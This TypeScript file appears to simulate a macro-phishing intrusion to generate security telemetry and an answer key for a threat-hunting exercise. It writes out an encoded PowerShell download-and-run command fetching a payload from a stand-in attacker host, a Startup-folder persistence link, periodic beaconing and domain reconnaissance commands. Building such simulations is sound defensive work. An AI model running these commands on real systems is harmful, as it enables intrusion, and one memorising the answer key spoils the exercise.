import { raise } from '../alerts';
import { alarms } from './alarms.data';
import { deliver } from '../cloud/mail';
import { connect, encodeCommand, note, resolve, touchFile } from '../events';
import { hashOf, type FileRef } from '../files';
import type { ProcessRef } from '../journal';
import { hour, minute, second, type Ticks } from '../window';
import type { Actor, Stage, Story } from './stage';

const c2 = { name: 'cdn-assets.metrics-sync.example', ip: '203.0.113.77' };

const fetchLibrary = (stage: Stage, actor: Actor, shell: ProcessRef): FileRef => {
  const { at } = shell;
  note(actor.act(shell, at + 2 * second), 'PowerShellCommand', { Command: 'New-Object' });
  resolve(actor.act(shell, at + 3 * second), c2.name, c2.ip);
  connect(actor.act(shell, at + 4 * second), { ip: c2.ip, url: c2.name });
  const library = stage.world.files.add(`C:\\Users\\${shell.account.name}\\AppData\\Roaming\\update.dat`, {
    content: 'beacon library',
    size: 311_808,
  });
  touchFile(actor.act(shell, at + 7 * second), library, {
    ActionType: 'FileCreated',
    FileOriginUrl: `https://${c2.name}/a/update.dat`,
    FileOriginIP: c2.ip,
  });
  return library;
};

/** Connections to the attacker's host, from the first minute until now or the end of the fourth day; returns their times. */
const callHome = (stage: Stage, actor: Actor, beacon: ProcessRef): readonly Ticks[] => {
  const { world, random } = stage;
  const { at } = beacon;
  const link = world.files.add(
    `C:\\Users\\${beacon.account.name}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.lnk`,
    {
      size: 1320,
    },
  );
  touchFile(actor.act(beacon, at + 35 * second), link, { ActionType: 'FileCreated' });
  const calls: Ticks[] = [];
  let speaker = { beacon, boot: actor.boot(at) };
  for (let when = at + minute; when < at + 4 * 24 * hour && stage.happened(when); when += 20 * minute + random.int(-90, 90) * second) {
    const current = actor.boot(when);
    // The device was started again: the link in the Startup folder brings the library back.
    if (current !== speaker.boot) {
      const started = { at: current.at + minute, parent: current.explorer ?? current.services, command: beacon.command };
      speaker = { beacon: actor.run('rundll32', started), boot: current };
    }
    calls.push(when);
    connect(actor.act(speaker.beacon, when), { ip: c2.ip, url: c2.name });
  }
  return calls;
};

const lookAround = (actor: Actor, beacon: ProcessRef): void => {
  const discovery = [
    ['whoami', 'whoami /all'],
    ['net', 'net group "Domain Admins" /domain'],
    ['nltest', 'nltest /domain_trusts'],
    ['ipconfig', 'ipconfig /all'],
  ] as const;
  const cmd = actor.run('cmd', { at: beacon.at + 40 * minute, parent: beacon, command: 'C:\\Windows\\system32\\cmd.exe' });
  discovery.forEach(([key, command], index) =>
    actor.run(key, { at: beacon.at + 40 * minute + (index + 1) * 11 * second, parent: cmd, command }),
  );
};

/** From the mail program to the shell that the macro starts. */
const openDocument = ({ stage, actor, document, at }: { stage: Stage; actor: Actor; document: FileRef; at: Ticks }): ProcessRef => {
  const boot = actor.boot(at);
  const outlook = actor.run('outlook', {
    at,
    parent: boot.explorer ?? boot.services,
    command: `"${stage.world.files.program('outlook').path}"`,
  });
  touchFile(actor.act(outlook, at + 5 * second), document, { ActionType: 'FileCreated' });
  const word = actor.run('winword', {
    at: at + 8 * second,
    parent: outlook,
    command: `"${stage.world.files.program('winword').path}" /n "${document.path}" /o ""`,
    images: ['vbe7', 'mso'],
  });
  const script = `$c=New-Object Net.WebClient;$c.DownloadFile('https://${c2.name}/a/update.dat',"$env:APPDATA\\update.dat");rundll32 $env:APPDATA\\update.dat,Start`;
  return actor.run('powershell', {
    at: at + 20 * second,
    parent: word,
    command: `powershell.exe -nop -w hidden -EncodedCommand ${encodeCommand(script)}`,
    images: ['automation', 'clr', 'amsi'],
  });
};

/** Phishing with a macro document: Word starts an encoded PowerShell, which fetches a library that calls home for days. */
export const macro: Story = (stage) => {
  const { world, random, time } = stage;
  const { person, actor } = stage.victim('finance');
  const at = stage.when(4, person.from + 2, actor.device);
  const name = 'Invoice_80453.docm';
  const path = `C:\\Users\\${person.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3PQ7Z1D\\${name}`;
  const document = world.files.add(path, { content: 'macro document', size: 88_432 });
  const subject = 'Overdue invoice 80453';
  const sender = { address: 'billing@northwind-invoices.example', name: 'Northwind Billing', ip: '198.51.100.23' };
  const message = deliver(world, random, {
    at: at - 12 * minute,
    from: sender,
    to: person,
    subject,
    attachments: [{ name, sha256: hashOf(document, 'sha256'), size: 88_432 }],
    failed: true,
  });

  const shell = openDocument({ stage, actor, document, at });
  const library = fetchLibrary(stage, actor, shell);
  const beacon = actor.run('rundll32', {
    at: at + 31 * second,
    parent: shell,
    command: `"C:\\Windows\\system32\\rundll32.exe" ${library.path},Start`,
    images: ['wininet'],
  });

  const calls = callHome(stage, actor, beacon);
  lookAround(actor, beacon);
  raise(world, {
    ...alarms.macro,
    at: at + 2 * minute,
    evidence: [
      { device: actor.device },
      { device: actor.device, process: shell },
      { device: actor.device, file: document },
      { account: person },
      { message: { id: message, subject } },
      { ip: c2.ip, url: c2.name },
    ],
  });

  const story = `A mail with the document ${name} reached ${person.display}. Its macro ran an encoded PowerShell, which fetched update.dat; rundll32 has called ${c2.name} about every 20 minutes since.`;
  return {
    story,
    answers: {
      'macro-shell': [[time(shell.at), actor.device.name, person.name, 'WINWORD.EXE', 'powershell.exe']],
      'macro-beacon': [[actor.device.name, c2.ip, c2.name, calls.length, time(calls[0] ?? 0), time(calls.at(-1) ?? 0)]],
      'macro-mail': [[sender.address, person.upn, subject, name, actor.device.name]],
    },
  };
};
